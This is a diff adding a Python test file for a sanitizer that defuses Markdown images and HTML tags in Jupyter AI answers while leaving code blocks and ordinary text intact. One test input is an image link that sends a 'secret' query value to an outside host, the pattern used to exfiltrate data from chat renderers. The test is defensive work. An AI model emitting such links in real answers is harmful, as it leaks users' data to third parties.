@@ -1,0 +1,55 @@
+"""Answers that Jupyter AI shows as Markdown."""
+
+from __future__ import annotations
+
+import pytest
+
+from a3s_power_jupyter.jupyter_ai.harmless import as_written, harmless
+
+JOINER = "\u2060"
+IMAGE = "![x](http://other/?q=secret)"
+SAFE = IMAGE.replace("![", f"!{JOINER}[")
+
+
+def test_images_and_tags_are_separated() -> None:
+    assert harmless(IMAGE) == SAFE
+    assert harmless("a <img src=x> 1 < 2") == f"a <{JOINER}img src=x> 1 < 2"
+    assert harmless("</p><!-- x -->") == f"<{JOINER}/p><{JOINER}!-- x -->"
+
+
+@pytest.mark.parametrize("text", ["plain", "[link](http://a)", "a[0] != b", "x < y"])
+def test_other_text_stays_as_it_is(text: str) -> None:
+    assert harmless(text) == text
+
+
+def test_code_blocks_stay_as_they_are() -> None:
+    code = f"```html\n<img src=x>\n{IMAGE}\n```\n"
+    assert harmless(code + IMAGE) == code + SAFE
+    tildes = f"~~~~\n```\n{IMAGE}\n~~~~\n"
+    assert harmless(tildes) == tildes
+
+
+@pytest.mark.parametrize(
+    "before",
+    [
+        "- a\n  ```\nb ",  # the list ends the block
+        "> ```\nb ",
+        "    ```\nb ",  # indented code, not a fence
+        "``` `a`\n",  # no fence, because of the backticks
+        "```\n```~\n",  # parsers differ
+        "```\ncode\n    ```\n",
+        "```\na\n```b\n",
+        "<div>\n```\n```\n",
+    ],
+)
+def test_what_may_not_be_a_code_block_is_text(before: str) -> None:
+    assert harmless(before + IMAGE).endswith(SAFE)
+
+
+def test_drawings_are_shown_as_text() -> None:
+    assert harmless("```mermaid\ngraph\n```") == "```text\ngraph\n```"
+
+
+@pytest.mark.parametrize("text", [IMAGE, "<b>x</b>", f"```\n{IMAGE}\n```\n<br>"])
+def test_a_model_gets_what_it_wrote(text: str) -> None:
+    assert as_written(harmless(text)) == text
